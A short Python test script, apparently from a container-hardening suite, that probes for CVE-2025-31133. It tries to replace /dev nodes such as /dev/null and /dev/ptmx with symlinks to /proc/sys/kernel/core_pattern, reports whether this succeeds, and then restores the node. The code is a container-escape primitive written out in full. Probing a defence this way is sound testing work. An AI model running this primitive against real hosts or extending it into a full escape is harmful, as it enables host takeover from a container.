"""A node of /dev that others are covered with, or that every program opens, is
replaced by a link to a file of the kernel: /dev/null, /dev/console, /dev/ptmx
(CVE-2025-31133).

Blocked by a read-only /dev that the holder made; masks are clones of what the
holder opened, not paths.
"""
import os

WANTS = None
BARE = "root"

why = []
for name in ("null", "console", "ptmx", "zero", "tty", "pts/ptmx", "shm"):
    path = f"/dev/{name}"
    try:
        os.rename(path, path + ".a03")
        os.symlink("/proc/sys/kernel/core_pattern", path)
        print("ESCAPED:", path, "is", os.readlink(path))
        os.unlink(path)
        os.rename(path + ".a03", path)
        break
    except OSError as e:
        why.append(e.strerror)
else:
    print("refused:", *sorted(set(why)))
